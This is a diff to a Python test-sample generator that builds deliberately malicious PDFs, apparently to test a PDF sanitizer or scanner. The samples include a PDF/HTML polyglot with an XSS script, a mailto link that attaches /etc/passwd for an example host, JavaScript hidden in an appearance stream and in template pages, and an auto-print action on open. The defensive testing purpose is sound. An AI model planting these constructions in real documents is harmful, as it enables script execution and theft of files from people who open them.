@@ -481,3 +481,30 @@ def pdf_form_xobject_bomb(work: Path) -> bytes:
 @sample("pdf_html_prefix_polyglot", ".pdf", "polyglot", "PDF/HTML polyglot: %PDF within the first 1024 bytes (§7.5.2 implementation note)")
 def pdf_html_prefix_polyglot(work: Path) -> bytes:
     return b"<html><script>alert(document.domain)</script><!--\n" + _raw_pdf(_page_objects(b"")) + b"-->"
+
+
+# ---------------------------------------------------------------- third round
+_uri_sample("pdf_uri_mailto_attach", b"mailto:soumu@town.example.lg.jp?attach=/etc/passwd",
+            "'Mailto: Me Your Secrets' (NDSS 2021): mailto with attach=")
+
+
+@_change_sample("pdf_action_in_appearance_stream", "nested-action", "§12.5.5 appearance stream whose resources hold an action")
+def _in_appearance(pdf: pikepdf.Pdf) -> None:
+    appearance = pikepdf.Stream(pdf, b"0 0 1 rg 0 0 50 50 re f")
+    appearance.Type = Name.XObject
+    appearance.Subtype = Name.Form
+    appearance.BBox = Array([0, 0, 50, 50])
+    appearance.Resources = Dictionary(ExtGState=Dictionary(G0=Dictionary(A=Dictionary(S=Name.JavaScript, JS=String(JS)))))
+    _annotate(pdf, Dictionary(Subtype=Name.Square, AP=Dictionary(N=appearance)))
+
+
+@_change_sample("pdf_names_templates", "javascript", "§12.7.6 /Names /Templates: hidden pages a script can spawn, with /AA")
+def _templates(pdf: pikepdf.Pdf) -> None:
+    hidden = pdf.make_indirect(Dictionary(Type=Name.Template, MediaBox=Array([0, 0, 612, 792]),
+                                          AA=Dictionary(O=_js(pdf)), Resources=Dictionary()))
+    pdf.Root.Names = Dictionary(Templates=Dictionary(Names=Array([String("t1"), hidden])))
+
+
+@_change_sample("pdf_named_action_print", "remote-action", "§12.6.4.11 Named action (a viewer menu command) on open")
+def _named(pdf: pikepdf.Pdf) -> None:
+    pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)
